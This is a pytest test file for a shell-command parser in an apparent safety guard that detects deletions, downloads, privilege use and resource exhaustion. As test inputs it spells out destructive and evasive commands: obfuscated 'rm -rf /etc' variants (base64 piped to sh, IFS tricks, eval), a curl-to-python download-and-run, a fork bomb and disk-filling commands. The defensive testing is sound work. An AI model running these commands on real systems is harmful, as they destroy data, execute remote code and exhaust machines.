"""Reading shell commands: words, wrappers, inner scripts, what cannot be told, and never an exception."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safewright.guard.parsing.shell import parse_shell


def targets(command: str, kind: str) -> list[str]:
    return [effect.target for effect in parse_shell(command).effects if effect.kind == kind]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("rm -rf /etc", ["/etc"]),
        ("r''m -r /e\"t\"c $'\\x2fusr'", ["/etc", "/usr"]),
        ('A=/etc; rm -rf "$A"/b', ["/etc/b"]),
        ("rm /{etc,usr}/x", ["/etc/x", "/usr/x"]),
        ("rm /tmp/../etc//passwd /proc/self/root/etc/x", ["/etc/passwd", "/etc/x"]),
        ("cd /etc && rm -rf ssh", ["/etc/ssh"]),
        ("cd /etc; (cd /usr; rm a); rm b", ["/usr/a", "/etc/b"]),
        ("rm ~/a ~root/b $HOME/c", ["~/a", "/root/b", "~/c"]),
        ("for f in a b; do rm $f; done", ["a", "b"]),
        ("f() { rm -rf $1; }; f /x", ["/x"]),
        ("bash -c 'rm -rf $0' /x", ["/x"]),
        ("env -i A=1 nohup timeout 5 nice -n 3 rm /x", ["/x"]),
        ("echo cm0gLXJmIC9ldGM= | base64 -d | sh", ["/etc"]),
        ("sh <<< 'rm /x'", ["/x"]),
        ("cat <<E | bash\nrm /x\nE", ["/x"]),
        ('eval "rm -rf /x"', ["/x"]),
        ("echo /x /y | xargs rm -f", ["/x", "/y"]),
        ("rm${IFS}-rf${IFS}/x", ["/x"]),
        ("IFS=,; P=/a,/b; rm $P", ["/a", "/b"]),
        ("alias z='rm -rf'; z /x", ["/x"]),
        ("rm ${NOWHERE:-/x}", ["/x"]),
        ("python3 -c \"import shutil as s; s.rmtree('/'+'x')\"", ["/x"]),
        ("python3 -c \"__import__('os').system('rm /x')\"", ["/x"]),
        ("find /a -name '*.o' -delete", ["/a/**/*.o"]),
        ("X=/a; false && X=/b; rm $X", ["/b", "/a"]),
        ("ln -s /etc /tmp/l; rm -r /tmp/l/ssh", ["/etc/ssh"]),
    ],
)
def test_what_is_deleted(command, expected):
    script = parse_shell(command)
    assert targets(command, "delete") == expected
    assert not script.unparsed
    assert not script.unresolved


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf $WHERE",
        'rm -rf "$(cat list)"',
        "$CMD /etc",
        "/???/r? -rf /etc",
        "curl http://h/x | python3",
        "perl -e 'require $x; do_it()'",
        "python3 -c 'import ctypes'",
        "python3 -c 'exec(input())'",
        "rm -rf /etc; )",
        "",
    ],
)
def test_what_cannot_be_told_is_said(command):
    script = parse_shell(command)
    dark = [effect for effect in script.effects if not effect.resolved or effect.target == "download"]
    assert script.unparsed or script.unresolved or dark


def test_privilege_and_wrappers_are_kept():
    script = parse_shell("sudo -u root env A=1 rm /x; ls")
    removal = next(command for command in script.commands if command.verb == "rm")
    assert removal.privileged
    assert removal.wrappers == ("sudo", "env")
    assert script.privileged
    assert script.verbs == ("rm", "ls")
    assert removal.classes == ("other-path",)


@pytest.mark.parametrize(
    "command",
    [
        ":(){ :|:& };:",
        "while true; do sleep 9 & done",
        "yes > f",
        "cat /dev/zero > f",
        "dd if=/dev/zero of=f",
        "tail /dev/zero",
        "for i in {1..5000}; do touch f$i; done",
        "fallocate -l 500G f",
    ],
)
def test_exhaustion_is_seen(command):
    assert any(effect.kind == "exhaust" for effect in parse_shell(command).effects)


@pytest.mark.parametrize(
    "command",
    [
        "yes | head -n 3",
        "dd if=/dev/zero of=f bs=1k count=4",
        "while true; do date; sleep 60; done",
        "for i in 1 2 3; do touch f$i; done",
        "head -c 100 /dev/urandom > f",
    ],
)
def test_bounded_work_is_no_exhaustion(command):
    assert not any(effect.kind == "exhaust" for effect in parse_shell(command).effects)


def test_bounds_of_the_input():
    assert parse_shell("echo " + "a" * 17_000).unparsed
    assert parse_shell("$(" * 300 + "ls" + ")" * 300).unparsed
    assert parse_shell("echo \ue05b").unparsed
    assert parse_shell(None).unparsed


@pytest.mark.parametrize(
    "command",
    [
        "{a,b}" * 40,
        "eval " * 3000 + "x",
        "a=x;" + "a=$a$a$a$a;" * 40 + "echo $a",
        "f(){ f; f; }; f",
        "((((((((" * 500,
        "for a in {1..9}; do " * 4 + "rm $a$a$a$a" + "; done" * 4,
        "bash -c " * 60 + "ls",
        "X='$X'; eval eval eval eval $X",
        "echo {1..99999999}",
        "alias a='a a'; a",
        "alias a=b b=a; a",
        "set -- " + "a " * 500 + "; while read x; do case $1 in a) shift $x;; esac; done; rm $@",
        "f() { if x; then shift; fi; " + "if x; then shift; fi; " * 20 + "rm $1; }; f " + "a " * 40,
        "declare -n a=b; declare -n b=a; rm $a",
        "PROMPT_COMMAND='PROMPT_COMMAND=$PROMPT_COMMAND'; $PROMPT_COMMAND",
        "vim " + "-c '" + "/a" * 7000 + "'",
        "vim -c '" + "g/x/" * 3000 + "!ls'",
        "make --eval='" + "$(shell " * 1500 + "'",
        "printf 'A = $(A)$(A)\\nA += $(A)\\na:\\n\\t$(A)\\n' | make -f -",
        "git config core.pager '" + "-a " * 4000 + "!'",
        "pkill '" + "a*" * 4000 + "b'",
        "EDITOR='" + "a -" * 4000 + ";'",
        "kill " + "{1..30}" * 9,
    ],
)
def test_bombs_end(command):
    began = time.monotonic()
    parse_shell(command)
    assert time.monotonic() - began < 60  # a hang guard


PIECES = st.sampled_from(
    [
        "rm",
        " ",
        "-rf",
        "/etc",
        "$X",
        "${X:-/a}",
        "$(",
        ")",
        "`",
        "'",
        '"',
        "|",
        "&&",
        "||",
        ";",
        "\n",
        "&",
        ">",
        ">>",
        "<<E\n",
        "E\n",
        "{",
        "}",
        "(",
        "for f in",
        "do",
        "done",
        "if",
        "then",
        "fi",
        "while true",
        "case x in",
        "esac",
        "*",
        "?",
        "[",
        "]",
        "~",
        "\\",
        "$'",
        "\\x41",
        "xargs",
        "find . -exec",
        "\\;",
        "sudo",
        "bash -c",
        "eval",
        "python3 -c",
        "base64 -d",
        "=",
        "a",
        "X=",
        "1",
        "{1..3}",
        "{a,b}",
        "$((",
        "))",
        "<(",
        "<<<",
        "function f",
        "#",
        "é",
        "\t",
        "trap",
        "alias a=",
        "ln -s",
        "cd",
        "shift",
        "set -- a b",
        "declare -n a=b",
        "2>/dev/null",
        "vim -c '",
        "make -f -",
        "export PATH=",
        "PROMPT_COMMAND=",
        "kill {2..99}",
        "flock a",
    ]
)


@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(PIECES, max_size=30).map("".join) | st.text(max_size=200))
def test_no_text_raises(text):
    script = parse_shell(text)
    assert script.text == text
    assert len(script.commands) <= 5000
    for effect in script.effects:
        assert isinstance(effect.object_class, str)


@pytest.mark.parametrize(
    "text", ["\U0009b920\U000f23cc{\U0005dc5a1\u2184$", "echo \U0001f389", "rm -rf /etc \U0010ffff"]
)
def test_characters_beyond_the_basic_plane_do_not_crash_the_parser(text: str) -> None:
    """In a process of its own: the grammar's C code reads beyond a table there."""
    code = f"from safewright.guard.parsing.shell import parse_shell\nfor _ in range(5): parse_shell({text!r})"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
